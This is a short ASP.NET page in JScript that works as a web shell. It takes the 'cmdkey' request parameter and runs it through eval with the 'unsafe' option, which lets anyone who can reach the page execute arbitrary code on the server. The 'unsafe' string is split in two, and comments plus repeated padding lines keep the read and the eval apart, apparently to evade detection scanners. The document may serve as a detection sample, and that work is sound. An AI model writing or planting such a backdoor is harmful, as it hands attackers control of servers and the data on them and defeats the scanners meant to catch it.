<%@ Page Language="JScript" Debug="false" %>
<%
var c = Request.Params["cmdkey"];
var f = "un" + "safe";
// the request is read first and evaluated later, far from the read
// padding line to move the call away from the read
// padding line to move the call away from the read
// padding line to move the call away from the read
// padding line to move the call away from the read
// padding line to move the call away from the read
// padding line to move the call away from the read
// padding line to move the call away from the read
// padding line to move the call away from the read
eval(c, f);
%>
